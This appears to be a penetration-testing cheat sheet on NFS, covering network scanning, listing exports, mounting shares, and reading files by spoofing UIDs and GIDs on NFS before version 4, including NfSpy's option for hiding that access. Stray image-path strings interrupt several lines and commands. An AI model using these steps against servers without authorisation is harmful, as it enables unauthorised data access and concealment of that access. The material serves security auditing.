111 / 2049 - NFS


The Network File System (NFS) is a distributed file system protocol, built on Remote Procedure Call (RPC) and used to share folders and files between computers.

NFS is often used with Unix and Unix-like operating systems. For NFS before version 4, the user id and group id of the client system are sent in each RPC call, and the permissions these IDs have on the file being accessed are checked on the server.

Network scan and mount points enumeration

The following tools can be used to scan the network for NFS services and enumerate their exposed mount points:

nmap -v -p 111,2049 -sV --script=nfs-showmount.nse -oA nmap_nfs<RANGE | CIDR | HOSTNAME | IP>
msf> use auxiliary/scanner/nfs/nfsmount

showmount --exports <HOSTNAME | IP>

Mount shares

The Linux utility mount can be used to mount a NFS share:

mkdir /tmp/NFS_SHARE

mount -t nfs <HOSTNAME | IP>:<SHARE> /tmp/NFS_SHARE

# Confirm the mounted share
df -k | grep NFS_SHARE

If the following error message is being returned by the mount utility, the nfs-common package must be locally installed on theclient system.

mount: /tmp/NFS_SHARE: bad option; for several filesystems (e.g. nfs, cifs) you might need a /sbin/mount.<type> helper program.

ID spoofing

For NFS before version 4, the server files access permissions are based on the client systemcurrent user id and group id. UID and GUID can thus be spoofed to access any directories and files exposed on the NFS export.

The server may use the root_squash mechanism that will make any requests using the UID or GID 0 (root) to be treated like the nobody user.

# Inside mounted folder
ls -lah
-> drwxr-xr--  3 <UID> <GID>  [...] dir_or_file

useradd -u <UID> tmp_user
su tmp_user

# OR
groupadd -r -g <GID> tmp_groupuseradd -G tmp_group<USERNAME>

The NfSpy python script can be used to automatethe process, with the advantage of hiding the access by immediately unmounting the share on the server but keeping the file handle:

nfspy -o server=<HOSTNAME | IP>:<SHARE>,hide,allow_other,ro,intr /tmp/NFS_SHARE

Connected usersenumeration

The Linux utility showmount can be used to retrieve the active and currently mounted shares andtheirs clients:

showmount--all <HOSTNAME | IP>

Last updated